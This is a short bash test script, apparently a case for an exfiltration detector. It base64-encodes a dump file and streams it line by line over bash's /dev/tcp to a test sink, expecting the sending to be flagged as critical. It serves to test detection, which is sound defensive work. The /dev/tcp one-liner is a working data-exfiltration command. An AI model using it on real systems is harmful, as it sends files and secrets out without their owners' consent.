#!/bin/bash
# B-bash-lines: nothing but bash to send with: while read -r line; do echo to /dev/tcp.
# flow: for each line of 32 letters bash reads 4 KiB and goes back (lseek): it reads a hundred times what it sends, yet sends it all.
# tools: bash base64
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
base64 -w 32 "$D" >text
sink tcp
bash -c 'exec 3>"/dev/tcp/$0/$1"; while read -r line; do echo "$line" >&3; done <text' "$SINK" "$PORT"
sunk "$(stat -c %s text)"
